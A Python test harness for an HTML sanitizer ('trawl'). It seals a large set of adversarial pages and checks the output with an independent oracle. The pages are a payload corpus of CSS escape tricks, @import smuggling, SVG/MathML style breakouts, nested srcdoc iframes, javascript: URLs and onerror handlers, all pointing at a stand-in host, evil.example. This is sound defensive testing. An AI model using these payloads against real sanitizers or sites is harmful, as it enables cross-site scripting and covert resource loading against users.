#!/usr/bin/env python3
"""sealed.py - pages that attack a seal, and an oracle of the form of what the seal writes

    sealed.py TRAWL        seals each page in three modes, and prints a line for each fault
    sealed.py --pages      prints the pages as a list of JSON strings, for the tests in a browser
    sealed.py --judge MODE prints what is wrong with the sealed page on standard input

The oracle does not share code with trawl. It accepts only the form that a seal writes: a page of
whole tags with quoted attributes, styles of known tokens, and addresses that lead to the template or
stay inside of the page. Whatever else is in the output is a fault, also if no browser is known to
misread it.
"""
import html
import itertools
import json
import re
import subprocess
import sys

EVIL = 'http://evil.example/x'
TEMPLATE = 'https://go.example/?u='
MODES = {'to': ['--to', TEMPLATE + '{url}'], 'defang': ['--defang'], 'drop': ['--drop']}


# ---- Pages ----

def quoted(text):
    return text.replace('&', '&amp;').replace('"', '&quot;').replace('<', '&lt;')


# Declarations. Each has an address, or becomes one if bytes change after they were read.
STYLES = [d.replace('EVIL', EVIL) for d in (
    # Escapes
    'background:url(EVIL)', 'background:\\75rl(EVIL)', 'background:\\000075 rl(EVIL)', 'background:u\\72\nl("EVIL")', 'background:u\\rl(\'EVIL\')',
    'b\\61 ckground:url(EVIL)', 'background:url(\\68ttp\\3a //evil.example/)', 'background:\\75\x1brl(EVIL)', 'background:\\75\x0erl(EVIL)', 'background:\\75\x0frl(EVIL)',
    'background:\\75<!--rl(EVIL)', 'background:u<!--rl(EVIL)', 'background:\\75-->rl(EVIL)', 'background:\\0url(EVIL)', 'background:\\url(EVIL)', 'background:x\\&url(EVIL)',
    'background:x\\</style>\\<img src=EVIL>', 'list-style:x\\&lt;url(EVIL)', 'background:url(EVIL\\', 'background:url("EVIL" "EVIL")', 'content:"\\";background:url(EVIL);"', 'content:"\\\n";background:url(EVIL)',
    # Hash tokens, strings and urls that are broken
    'x:#url(#") ");background:url(EVIL);y:"', 'color:#url(EVIL);background:url(EVIL)', 'x:#\\75rl(#\') \');background:url(EVIL);y:\'', 'x:@url(#") ");background:url(EVIL);y:"',
    'content:"a\n;background:url(EVIL);"', 'content:\'a\r\';background:url(EVIL)', 'x:url(a b");background:url(EVIL);y:"', 'x:url(a"b);background:url(EVIL)', 'x:url(a\\)b");background:url(EVIL)',
    'x:url( "a" b);background:url(EVIL)', 'x:url(a(b);background:url(EVIL)', 'background:url(EVIL', 'background:url("EVIL', 'background:url(\x01EVIL)', 'x:url(\x7f") ");background:url(EVIL);y:"',
    # Comments
    'background:u/**/rl(EVIL)', 'background:url/**/(EVIL)', 'back/**/ground:url(EVIL)', '/*/background:url(EVIL);/**/color:red', 'background:/*\\*/url(EVIL)', 'x:url(/*");background:url(EVIL);/*"*/',
    'color:red/*;background:url(EVIL)', '/*\x1b*/background:url(EVIL)',
    # Functions, custom properties, blocks
    '--x:url(EVIL);background:var(--x)', '--x:"EVIL";background:image-set(var(--x) 1x)', '--x:image-set("EVIL" 1x);background:var(--x)', '--x:"EVIL";background:src(var(--x))', '--\\75:url(EVIL);background:var(--u)',
    '--x:{background:url(EVIL)};color:red', '--x:;--y:url(EVIL)', 'background:image-set("EVIL" 1x, \'EVIL\' 2x)', 'background:-webkit-image-set(url(EVIL) 1x)', 'background:-webkit-cross-fade(url(EVIL),url(EVIL),50%)',
    'background:image("EVIL")', 'background:if(style(--a:b):url(EVIL);else:url(EVIL))', 'width:expression(new Image().src="EVIL")', 'behavior:url(EVIL)', '-moz-binding:url(EVIL)', 'content:attr(x type(<url>))',
    'filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="EVIL")', 'a:hover{background:url(EVIL)}background:url(EVIL)', '&:hover{background:url(EVIL)}', '@media all{background:url(EVIL)}', 'color:red}*{background:url(EVIL)',
    'x:(((((((((((((((((((((((((((((((((((((((((url(EVIL)', 'cursor:url(EVIL),auto', 'mask:url(EVIL#a)', 'filter:url(EVIL#a)', 'shape-outside:url(EVIL)', 'border-image:url(EVIL) 1', 'background:red!important;background:url(EVIL)!x',
)]
RULES = [r.replace('EVIL', EVIL) for r in (
    '@import "EVIL";', '@import url(EVIL);', '@\\69mport "EVIL";', '@\\69<!--mport "EVIL";', '@im\x1bport "EVIL";', '@IMPORT/**/url("EVIL") layer(a) screen;', 'x:#url(#") "){} @import url(EVIL);', '<!-- @import "EVIL"; -->', 'x\\&{}@import "EVIL";',
    '@charset "a";@import "EVIL";', '@namespace a url(EVIL);', '@layer a{p{background:url(EVIL)}}', '@media all{@import "EVIL";p{background:url(EVIL)}}', '@supports (background:url(EVIL)){p{color:red}}', '@media (a<b){p{background:url(EVIL)}}',
    '@font-face{font-family:f;src:url(EVIL)}p{font-family:f}', '@font-face (url(EVIL){src:src("EVIL")}', '@keyframes k{from{background:url(EVIL)}to{color:red}}p{animation:k 1s}', '@property --x{syntax:"*";inherits:false;initial-value:"EVIL"}', '@counter-style c{system:cyclic;symbols:url(EVIL)}',
    'p[title="</style><img src=EVIL>"]{color:red}', 'p[title=\\</style\\>]{color:red}', 'p{&:hover{background:url(EVIL)}}', '@scope(p){p{background:url(EVIL)}}', '@container(width>0){p{background:url(EVIL)}}', '@document url(EVIL){p{color:red}}', '}p{background:url(EVIL)}', 'p{}}@import "EVIL";',
    'p::before{content:url(EVIL)}', ':url("EVIL"){color:red}', '@page{background:url(EVIL)}', '@view-transition{navigation:auto}p{background:url(EVIL)}', '@starting-style{p{background:url(EVIL)}}', 'p{background:url(EVIL)', '@media x{p{background:url(EVIL)',
)]
# Whole pages.
PAGES = [p.replace('EVIL', EVIL) for p in (
    '<img srcset="#\x1b0.2x,EVIL 1x">', '<img srcset="#\x0e,EVIL 1x">', '<img srcset="#,EVIL 1x">', '<img srcset="a (,EVIL 1x">', '<img srcset="a (), EVIL 1x">', '<img srcset="EVIL, EVIL\x0f2x">', '<img srcset=",,EVIL,, EVIL 2x">', '<img srcset="a 1x\x0b,EVIL 1x">',
    '<link rel=preload as=image imagesrcset="#\x1b,EVIL 1x">', '<source srcset="EVIL">', '<a href="#a" ping="#\x1bEVIL">x</a>', '<a href="#a" ping="\x0eEVIL #\x0fEVIL">x</a>', '<base href="http://a.example/ EVIL"><a href="#a" ping="x">x</a>', '<base href="http://a.example/\x1bEVIL"><img srcset="x 1x">',
    '<base href="http://a.example/ EVIL 2x,"><img srcset="x 1x">', '<base href="http:"><a href="x">x</a>', '<base href="a/"><base href="EVIL"><a href="x">x</a>', '<a href="httpx:">x</a><a href="http:">x</a><a href="https:/">x</a>', '<meta http-equiv=refresh content="0;url=\'\'EVIL">', '<meta http-equiv=refresh content="0;url=\'a\'EVIL\'">',
    '<meta http-equiv=refresh content=\'0;url=""EVIL\'>', '<meta http-equiv=refresh content="0;url=\x1b\'EVIL">', '<meta http-equiv=refresh content="0;EVIL">', '<meta http-equiv=refresh content="\x0e0 url = EVIL">', '<meta content="0;url=EVIL" http-equiv="refresh">', '<meta http-equiv="re\x1bfresh" content="0;url=EVIL">', '<meta http-equiv=link content="&lt;EVIL&gt;;rel=stylesheet">',
    '<svg><style>x\\&lt;/style&gt;\\&lt;img src=EVIL onerror=alert(1)&gt;</style></svg>', '<math><style>x\\&lt;/style&gt;\\&lt;script&gt;alert(1)\\&lt;/script&gt;</style></math>', '<svg><style><![CDATA[x\\</style>\\<img src=EVIL onerror=alert(1)>]]></style></svg>', '<svg><style>p{background:&#117;rl(EVIL)}</style></svg>', '<svg><style>&lt;!-- @import "EVIL"; --&gt;</style></svg>',
    '<svg><style/><img src=EVIL></svg>', '<svg><style><a href=EVIL>x</a></style></svg>', '<svg><rect fill="url(EVIL)" stroke="#url(#\') \');x:url(EVIL)"/></svg>', '<svg><rect fill="\\75\x1brl(EVIL)" clip-path="url(EVIL);x:y" mask="src(\'EVIL\')"/></svg>', '<svg><a href="ja\x0evascript:alert(1)"><text>x</text></a></svg>', '<svg><set attributeName=href to=EVIL /><animate attributeName="xlink:href" values="EVIL"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg/>"/><image href="EVIL"/></svg>', '<math href=EVIL><mi xlink:href=EVIL>x</mi></math>', '<svg><script href=EVIL /><script>alert(1)</script></svg>', '<svg><foreignObject><iframe srcdoc="<img src=EVIL>"></iframe></foreignObject></svg>', '<svg xml:base=EVIL><a href=x><text>x</text></a></svg>',
    '<iframe srcdoc="<iframe srcdoc=&quot;&amp;lt;img src=EVIL onerror=alert(1)&amp;gt;&quot;></iframe>"></iframe>', '<iframe srcdoc="<base href=EVIL><a href=y>x</a>"></iframe><a href=z>x</a>', '<iframe srcdoc="\x1b<script>alert(1)</script>"></iframe>', '<iframe srcdoc="<meta http-equiv=refresh content=0;url=EVIL>"></iframe>', '<iframe src="javascript:alert(1)" srcdoc></iframe>',
    '<p title="\x1b(B" style="background:url(EVIL)">x', '<textarea></textarea\x1b><img src=EVIL></textarea>', '<title>\x0e</title><img src=EVIL>', '<style>p{}</style\x0f><img src=EVIL></style>', '<a href="\x01EVIL">x</a><a href="EVIL\x1b">x</a><a href="\x1b//evil.example/">x</a>', '<a href="java\nscript:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a>',
    '<p onclick=alert(1) onx\x1b=alert(1) ON\x00CLICK=alert(1)>x', '<form action=EVIL><button formaction="\x1bEVIL">x</button></form>', '<object data=EVIL><param name=movie value=EVIL></object><embed src=EVIL>', '<video src=EVIL poster="\x0eEVIL"></video><audio src=EVIL></audio>', '<table background=EVIL><td background="\x1bEVIL">x</table>', '<template shadowrootmode=open><img src=EVIL></template>',
    '<link rel=stylesheet href="#\x1bEVIL"><link rel=stylesheet href="data:text/css,x">', '<noscript><img src=EVIL></noscript>', '<xmp><img src=EVIL></xmp><plaintext><img src=EVIL>', '<!--><img src=EVIL><!-- --!><img src=EVIL>', '<?x ><img src=EVIL>', '<x:script src=EVIL>alert(1)</x:script>', '<frameset><frame src=EVIL></frameset>',
)]


def pages():
    """Returns all pages."""
    made = [*PAGES]
    for i, (style, rules) in enumerate(itertools.zip_longest(STYLES, RULES)):
        inside = f'p{{{style}}}'
        made.append(f'<p style="{quoted(style)}">text')
        made.append(f'<style>{inside}</style><p>text')
        other = [f'<svg><style>{quoted(inside)}</style></svg><p>text', f'<iframe srcdoc="{quoted(f"<style>{inside}</style><p>text")}"></iframe>',
                 f'<svg><text style="{quoted(style)}" fill="{quoted(style.partition(":")[2])}">text</text></svg>']
        made.append(other[i % 3])
        if rules:
            made.append(f'<style>{rules}</style><p>text')
            inner = quoted(f'<iframe srcdoc="{quoted(f"<style>{rules}</style><p>text")}"></iframe>')
            made.append(f'<iframe srcdoc="{inner}"></iframe>' if i % 2 else f'<math><mtext><svg><style>{quoted(rules)}</style></svg></mtext></math><p>text')
    return made


# ---- The oracle ----

ATTRIBUTE = r' [a-z0-9_:.-]+="[^"<>]*"'
TAG = re.compile(rf'<(?P<end>/?)(?P<name>[a-z][a-z0-9_.-]*)(?P<attributes>(?:{ATTRIBUTE})*)/?>')
TEXT = re.compile(r'[^<>"]+')
REFERENCE = re.compile(r'&(?!amp;|lt;|gt;|quot;)')
ADDRESSES = set('href xlink:href src action formaction data background poster longdesc lowsrc dynsrc manifest codebase classid code icon value'.split())
CSS = re.compile(r'''(?P<blank>[ \n]+) | (?P<text>"(?:[^"\\\n\r\f<&]|\\[0-9a-f]{2}\ )*") | (?P<number>[+-]?(?:\d*\.)?\d+(?:[eE][+-]?\d+)?(?:%|[a-zA-Z]+(?:-\d*)?)?)
    | (?P<name>[@#]?(?:[A-Za-z0-9_\u0080-\U0010ffff-]|\\[0-9a-f]{2}\ )+)(?P<call>\(?) | (?P<sign>[][(){}:;,.*>+~=|^$/!-])''', re.X)
AT_RULES = {'media', 'supports', 'keyframes', 'font-face'}
LOADING = {'src', 'image', 'cross-fade', 'element', 'paint', 'expression', 'import'}


class Fault(Exception):
    pass


def unescape_css(text):
    return re.sub(r'\\([0-9a-f]{2}) ', lambda m: chr(int(m[1], 16)), text)


def judge_address(url, mode, clicked=False):
    """Raises Fault unless a gateway permits the address, or, if it is clicked, a program for it is harmless."""
    if mode == 'to' and url.startswith(TEMPLATE) and not re.search(r'[\s,]', url):
        return
    if mode == 'defang' and re.match(r'hxxps?:|fxp:', url) and not re.search(r'\s', url):
        return
    if not re.match(r'(#|cid:|mid:|about:blank$|about:invalid$|data:image/|$)' + '|(mailto|tel|sms):' * clicked, url.strip('\x01 '), re.I):
        raise Fault(f'address {url!r}')


def judge_css(sheet, mode, rules=True):
    """Raises Fault unless each token is of the form that is written, and each address is permitted."""
    at, open_ones, last = 0, [], None
    while at < len(sheet):
        token = CSS.match(sheet, at)
        if not token:
            raise Fault(f'CSS {sheet[at:at + 30]!r}')
        at = token.end()
        if token['name']:
            name = unescape_css(token['name']).lower()
            plain = re.sub(r'^(@?)-(webkit|moz|ms|o)-', r'\1', name)
            if plain[0] == '@' and (plain[1:] not in AT_RULES or not rules):
                raise Fault(f'rule {name!r}')
            if token['call'] and (plain in LOADING or '\\' in token['name'] and plain in ('url', 'image-set')):
                raise Fault(f'function {name!r}')
            if token['call']:
                open_ones.append(plain)
        elif token['text']:
            inside = open_ones[-1] if open_ones else ''
            if inside == 'url':
                if not sheet.startswith(')', at) or last['call'] is None:
                    raise Fault(f'url {sheet[token.start():at + 9]!r}')
                judge_address(unescape_css(token['text'][1:-1]), mode)
            elif inside == 'image-set':
                raise Fault('a text in image-set()')
        elif token['sign'] and token['sign'] in '([{':
            open_ones.append(token['sign'])
        elif token['sign'] and token['sign'] in ')]}':
            opened = open_ones.pop() if open_ones else ''
            if {')': '', ']': '[', '}': '{'}[token['sign']] not in (opened, '') or (token['sign'] == ')' and opened in ('', '[', '{')):
                raise Fault(f'{token["sign"]!r} after {opened!r}')
        elif token['number'] and open_ones and open_ones[-1] == 'url':
            raise Fault('no text in url()')
        if last and last['call'] and last['name'] and unescape_css(last['name']).lower() == 'url' and not token['text']:
            raise Fault('no text in url()')
        last = token
    if open_ones:
        raise Fault(f'open: {open_ones}')


def judge_attribute(tag, name, value, others, mode):
    if name.startswith('on') or name in ('xml:base', 'attributename') or (':' in name and not re.match('xlink:|xml:|xmlns:', name)):
        raise Fault(f'attribute {name}')
    if re.search('[\0\x0e\x0f\x1b]', value):
        raise Fault(f'control in {name}')
    if name == 'srcdoc':
        judge(value, mode, False)
    elif name == 'style':
        judge_css(value, mode, False)
    elif name in 'fill stroke filter mask clip-path marker marker-start marker-mid marker-end cursor'.split():
        judge_css(value, mode, False)
        if re.search('[;{}@]', re.sub('"[^"]*"', '', value)):
            raise Fault(f'{name}: {value!r}')
    elif name in ('srcset', 'imagesrcset'):
        for one in filter(None, re.split(', ', value)):
            if not re.fullmatch(r'[^\s,](?:\S*[^\s,])?( [0-9.]+[wxh])*', one):
                raise Fault(f'srcset {one!r}')
            judge_address(one.split(' ')[0], mode)
    elif name in ('ping', 'attributionsrc', 'archive'):
        for one in value.split():
            judge_address(one, mode)
    elif name == 'content' and tag == 'meta' and others.get('http-equiv', '').lower() == 'refresh':
        form = re.fullmatch(r'''[0-9.]*(?:;url=([^"'].*))?''', value)
        if not form:
            raise Fault(f'refresh {value!r}')
        judge_address(form[1] or '', mode)
    elif name in ADDRESSES and not (name == 'data' and tag != 'object') and not (name == 'value' and tag != 'param'):
        judge_address(value, mode, tag in ('a', 'area', 'form', 'button', 'input'))
    elif tag == 'link' and name == 'href' and not value.startswith('about:'):
        judge_address(value, mode) if value.startswith((TEMPLATE, 'hxxp')) else None


def judge(page, mode, mark=True):
    """Raises Fault unless the page has the form of a sealed page."""
    if mark and not page.startswith('\ufeff'):
        raise Fault('no byte-order mark')
    at = 1 if mark else 0
    at = re.compile(r'(?i)(<!doctype[a-z0-9\s]*(public\s*("[^"]*"|\'[^\']*\')\s*)?(["\'](http://www.w3.org/|about:legacy-compat)[^<>]*)?>)?').match(page, at).end()
    while at < len(page):
        text, tag = TEXT.match(page, at), TAG.match(page, at)
        found = text or tag
        if not found:
            raise Fault(f'form: {page[at:at + 40]!r}')
        at = found.end()
        if REFERENCE.search(found[0]) or re.search('[\0\x0e\x0f\x1b]', found[0]):
            raise Fault(f'text: {found[0]!r}')
        if not tag:
            continue
        if tag['name'] in ('script', 'base', 'xmp', 'plaintext'):
            raise Fault(f'<{tag["name"]}>')
        attributes = {name: html.unescape(value) for name, value in re.findall(r' ([^ =]+)="([^"]*)"', tag['attributes'])}
        for name, value in attributes.items():
            judge_attribute(tag['name'], name, value, attributes, mode)
        if tag['name'] == 'style' and not tag['end']:
            end = page.index('</style>', at)
            if '<' in page[at:end] or '&' in page[at:end]:
                raise Fault('markup in <style>')
            judge_css(page[at:end], mode)
            at = end + len('</style>')


# ---- Running ----

def seal(trawl, page, mode, report):
    """Returns the sealed page, and the records of its report."""
    done = subprocess.run([trawl, 'rewrite', '--sandbox=off', '--seal', '--report', report, *MODES[mode]], input=page, capture_output=True, check=False)
    if done.returncode not in (0, 1):
        raise Fault(f'status {done.returncode}: {done.stderr.decode()}')
    with open(report, encoding='utf-8') as f:
        return done.stdout, f.read()


def main(arguments):
    if arguments[0] == '--pages':
        print(json.dumps(pages()))
        return
    if arguments[0] == '--judge':
        judge(sys.stdin.buffer.read().decode(), arguments[1])
        return
    trawl, report = arguments
    faults = 0
    for page, mode in itertools.product(pages(), MODES):
        try:
            sealed, _ = seal(trawl, page.encode(), mode, report)
            judge(sealed.decode(), mode)
            again, records = seal(trawl, sealed, mode, report)
            if again != sealed or records:
                raise Fault(f'sealed again: {again!r} {records}')
        except Fault as fault:
            faults += 1
            print(f'{mode}: {page!r}: {fault}')
    print(f'{len(pages())} pages, {faults} faults')


if __name__ == '__main__':
    try:
        main(sys.argv[1:])
    except Fault as fault:
        print(fault)
